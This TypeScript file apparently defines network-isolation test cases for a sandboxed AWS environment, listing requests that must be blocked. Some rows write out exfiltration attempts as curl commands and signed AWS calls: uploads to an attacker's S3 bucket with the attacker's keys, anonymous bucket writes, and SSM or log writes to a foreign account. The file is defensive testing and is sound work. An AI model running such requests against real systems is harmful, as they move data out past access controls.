import type { Row } from "../row";
import { attacker, buckets, logs, own, region, role, s3Address, signedAt, ssm, target } from "./requests";
import { blocked, from, sealed } from "./ways";

const parameter = ssm("PutParameter", { Name: "/$NONCE", Value: "x", Type: "String" });
const events = { logGroupName: "$NONCE", logStreamName: "s", logEvents: [] };
const { drop, release } = buckets;
const address = { ssm: "10.0.1.40", logs: "10.0.1.43" } as const;

const toS3 = (who: string, host: string, rest: string) => signedAt(s3Address, "s3", who, host, rest);
const toSsm = (who: string, rest: string) => signedAt(address.ssm, "ssm", who, "ssm", rest);

const anonymous = (rest: string) =>
    `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3Address}:443 ${rest.replace("URL", `https://${drop}.${region}.amazonaws.com`)}`;

/** Services of which the VPC has no endpoint, by AWS's public address: nothing leads there. */
const elsewhere = [
    ["sts", "sts"],
    ["ec2", "ec2"],
    ["iam", "iam"],
    ["kms", "kms"],
] as const;

const policies = { layer: "endpoint-policies" } as const;

/** AWS itself as the way out: the attacker's own account through our endpoints, and our roles where they have no business. */
export const awsRows: readonly Row[] = from(sealed, (place) => [
    blocked("s3-attackers-key-put", place, toS3(attacker, drop, "-X PUT -d data URL/$NONCE"), {
        ...policies,
        source: "O42",
    }),
    blocked("s3-attackers-key-get", place, toS3(attacker, drop, "URL/orders-$NONCE"), { ...policies, source: "O42" }),
    blocked("s3-attackers-key-list", place, toS3(attacker, drop, "'URL/?prefix=x'"), { ...policies, source: "O42" }),
    blocked("s3-anonymous-get", place, anonymous("URL/orders"), { ...policies, source: "O43" }),
    blocked("s3-anonymous-list", place, anonymous("'URL/?prefix=x'"), { ...policies, source: "O43" }),
    blocked("s3-anonymous-put", place, anonymous("-X PUT -d $NONCE URL/$NONCE"), { ...policies, source: "O43" }),
    blocked("s3-own-role-foreign-bucket", place, `${role}; ${toS3(own, drop, "-X PUT -d data URL/$NONCE")}`, {
        ...{ ...policies, source: "O44" },
    }),
    blocked("s3-own-role-release", place, `${role}; ${toS3(own, release, "-X PUT -d data URL/host/$NONCE")}`, policies),
    blocked("s3-own-role-edges-bundle", place, `${role}; ${toS3(own, release, "URL/host/edge/$NONCE")}`, {
        ...{ ...policies, source: "O47" },
    }),
    ...elsewhere.map(([service, host]) =>
        blocked(
            `own-role-${service}`,
            place,
            `${role}; ${signedAt("192.0.2.52", service, own, host, target("Any", "$NONCE", {}))}`,
            {
                ...{ layer: "routes", source: "O48" },
            },
        ),
    ),
    blocked("ssm-attackers-key", place, toSsm(attacker, parameter), { ...policies, source: "O45" }),
    blocked(
        "logs-attackers-key",
        place,
        signedAt(address.logs, "logs", attacker, "logs", logs("PutLogEvents", events)),
        { ...policies, source: "O45" },
    ),
    blocked("ssm-own-role-foreign-parameter", place, `${role}; ${toSsm(own, parameter)}`, policies),
    blocked(
        "ssm-own-role-edges-parameter",
        place,
        `${role}; ${toSsm(own, ssm("GetParameter", { Name: "/isolated-openhands/prod/hosts/edge" }))}`,
        { ...policies, source: "O47" },
    ),
    blocked(
        "ssm-own-role-attackers-parameter",
        place,
        `${role}; ${toSsm(own, ssm("GetParameter", { Name: `arn:aws:ssm:${region}:999999999999:parameter/$NONCE` }))}`,
        policies,
    ),
    blocked(
        "ssm-own-role-attackers-document",
        place,
        `${role}; ${toSsm(own, ssm("GetDocument", { Name: `arn:aws:ssm:${region}:999999999999:document/$NONCE` }))}`,
        policies,
    ),
]);
